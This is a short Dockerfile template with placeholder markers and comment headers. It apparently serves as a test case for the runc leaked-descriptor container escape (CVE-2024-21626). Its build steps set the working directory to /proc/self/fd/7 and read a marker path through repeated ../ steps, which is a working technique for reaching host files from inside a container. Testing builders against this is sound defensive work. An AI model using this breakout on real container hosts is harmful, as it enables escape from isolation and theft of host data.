# Tries: a working folder leads through a link, and through descriptors that the runtime left open (CVE-2024-21626).
# Holds: it is a folder of the image.
# File: file = planted
# Ends: any
# Says: tried
FROM python:3-slim
RUN ln -s / /w
WORKDIR /w%FOLDER%
COPY file written
RUN cat marker; echo tried
WORKDIR /proc/self/fd/7
RUN cat ../../../../../../..%MARKER%; echo tried
